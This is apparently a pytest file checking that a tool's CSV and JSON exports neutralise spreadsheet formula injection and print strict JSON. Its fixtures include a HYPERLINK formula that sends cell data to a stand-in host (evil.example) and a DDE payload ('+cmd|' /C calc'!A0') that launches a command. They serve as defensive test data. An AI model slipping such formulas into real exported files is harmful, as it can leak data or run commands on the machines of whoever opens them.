"""Attack: recorded strings that run as spreadsheet formulas; output that is not what it says.

Before: `export` and `sql --format csv` wrote a cell such as
``=HYPERLINK(...)`` raw, to run as a formula when the file is opened in a
spreadsheet; `history --format json` printed bare ``NaN``/``Infinity``
(invalid JSON); and on PostgreSQL `sql --format csv` printed a JSONB payload
as a Python dict. Now text cells follow `kasmina.spreadsheet` (a ``'`` in
front, reversibly, numbers left alone), JSON uses the ledger's markers for
non-finite floats, and a payload is its canonical JSON text on both databases.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
from pathlib import Path

import pytest

from kasmina.events import EpochCompleted, SeedGerminated, slot_stream
from kasmina.export import COLUMN_KINDS, Kind, export_run
from kasmina.ledger import Ledger
from kasmina.spreadsheet import original, safe_cell
from security.attacks import fingerprint, kasmina

RUN = "sheet"
NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
#: Seed ids that are formulas to a spreadsheet, and some that are not.
SEEDS = (
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "\r=1",
    "'=quoted",
    "''-x",
    "-1.5",
    "+3e8",
    "plain",
    "-",
)
RISKY = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


@pytest.fixture
def sheet_url(attacked_url: str) -> str:
    with Ledger.open(attacked_url) as ledger:
        run = ledger.start_run(name=NAME, seed=5, run_id=RUN)
        for n, seed in enumerate(SEEDS):
            slot = f"s{n}"
            run.recorder.emit(
                SeedGerminated(slot_id=slot, blueprint_id=seed, params=1),
                stream_id=slot_stream(slot),
                epoch=0,
                seed_id=seed,
            )
        run.recorder.emit(
            EpochCompleted(
                val_loss=math.nan, train_loss=math.inf, host_grad_norm=-math.inf, val_accuracy=-1.5
            ),
            stream_id="run",
            epoch=0,
        )
        run.finish()
    return attacked_url


def test_the_rule_is_undone_by_original() -> None:
    for text in (*SEEDS, NAME, "", "'", "''", "'a", "=", "1e5", ".5", "-.5e-3", "--1"):
        cell = safe_cell(text)
        assert original(cell) == text
        if RISKY.match(cell):
            assert NUMBER.fullmatch(cell), cell
    assert safe_cell("-1.5") == "-1.5" and safe_cell("=1") == "'=1"
    assert safe_cell("'=1") == "''=1" and safe_cell("'a") == "'a"


def _text_cells(folder: Path, table: str) -> list[tuple[str, str, object]]:
    """(column, CSV cell, JSON lines value) of every text column of a table."""
    with (folder / "csv" / f"{table}.csv").open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    lines = (folder / "jsonl" / f"{table}.jsonl").read_text(encoding="utf-8").splitlines()
    header, body = rows[0], rows[1:]
    assert len(body) == len(lines)
    cells = []
    for row, line in zip(body, lines, strict=True):
        item = json.loads(line)
        for column, value in zip(header, row, strict=True):
            if COLUMN_KINDS.get(column, Kind.TEXT) is Kind.TEXT:
                cells.append((column, value, item[column]))
    return cells


def test_export_csv_never_starts_a_text_cell_with_a_formula(sheet_url: str, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    before = fingerprint(sheet_url)
    with Ledger.open(sheet_url) as ledger:
        export_run(ledger, RUN, out / "csv", "csv")
        export_run(ledger, RUN, out / "jsonl", "jsonl")
    checked = set()
    for table in ("events", "runs", "seed_outcomes", "stage_changes"):
        for column, cell, value in _text_cells(out, table):
            if RISKY.match(cell):
                assert NUMBER.fullmatch(cell), (table, column, cell)
            assert original(cell) == ("" if value is None else value), (table, column)
            checked.add(cell)
    assert "'" + NAME in checked and "'@SUM(1+1)" in checked and "'\t=1" in checked
    assert "-1.5" in checked and "''=quoted" in checked and "'-" in checked
    assert fingerprint(sheet_url) == before


def test_sql_csv_follows_the_same_rule(sheet_url: str) -> None:
    before = fingerprint(sheet_url)
    query = (
        f"SELECT seed_id, epoch FROM events WHERE run_id = '{RUN}' "
        "AND seed_id IS NOT NULL ORDER BY position"
    )
    proc = kasmina(sheet_url, "sql", query, "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(proc.stdout)))
    assert rows[0] == ["seed_id", "epoch"]
    assert [r[0] for r in rows[1:]] == [safe_cell(s) for s in SEEDS]
    assert [original(r[0]) for r in rows[1:]] == list(SEEDS)
    assert {r[1] for r in rows[1:]} == {"0"}
    assert fingerprint(sheet_url) == before


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_history_json_is_strict_json_with_the_ledgers_markers(sheet_url: str, fmt: str) -> None:
    before = fingerprint(sheet_url)
    proc = kasmina(sheet_url, "history", RUN, "--format", fmt)
    assert proc.returncode == 0, proc.stderr

    def refuse(constant: str) -> None:
        raise AssertionError(f"bare {constant} is not JSON")

    texts = [proc.stdout] if fmt == "json" else proc.stdout.splitlines()
    events = [
        e
        for t in texts
        for e in (lambda v: v if isinstance(v, list) else [v])(json.loads(t, parse_constant=refuse))
    ]
    [epoch] = [e for e in events if e["event_type"] == "EpochCompleted"]
    payload = epoch["payload"]
    assert (payload["val_loss"], payload["train_loss"]) == ("NaN", "Infinity")
    assert (payload["host_grad_norm"], payload["val_accuracy"]) == ("-Infinity", -1.5)
    assert fingerprint(sheet_url) == before


@pytest.mark.parametrize("fmt", ["csv", "json", "jsonl", "table"])
def test_a_payload_is_its_canonical_json_text_on_both_databases(sheet_url: str, fmt: str) -> None:
    with Ledger.open(sheet_url) as ledger:
        [epoch] = [e for e in ledger.history(RUN) if e.event_type == "EpochCompleted"]
    query = f"SELECT payload FROM events WHERE position = {epoch.position}"
    proc = kasmina(sheet_url, "sql", query, "--format", fmt)
    assert proc.returncode == 0, proc.stderr
    text = epoch.payload.canonical_text()
    if fmt == "csv":
        assert list(csv.reader(io.StringIO(proc.stdout))) == [["payload"], [text]]
    elif fmt == "json":
        assert json.loads(proc.stdout) == [{"payload": text}]
    elif fmt == "jsonl":
        assert [json.loads(line) for line in proc.stdout.splitlines()] == [{"payload": text}]
    else:
        assert text in proc.stdout.replace("\n", "").replace("│", "").replace(" ", "")
    assert "{'" not in proc.stdout  # never a Python dict


def test_sql_json_spells_non_finite_floats_as_markers(sheet_url: str) -> None:
    query = (
        "SELECT 9e999 AS i, -9e999 AS j"
        if sheet_url.startswith("sqlite")
        else "SELECT CAST('Infinity' AS float8) AS i, CAST('-Infinity' AS float8) AS j"
    )
    for fmt in ("json", "jsonl"):
        proc = kasmina(sheet_url, "sql", query, "--format", fmt)
        assert proc.returncode == 0, proc.stderr
        value = json.loads(proc.stdout, parse_constant=lambda c: pytest.fail(f"bare {c}"))
        assert value == (
            [{"i": "Infinity", "j": "-Infinity"}]
            if fmt == "json"
            else {"i": "Infinity", "j": "-Infinity"}
        )
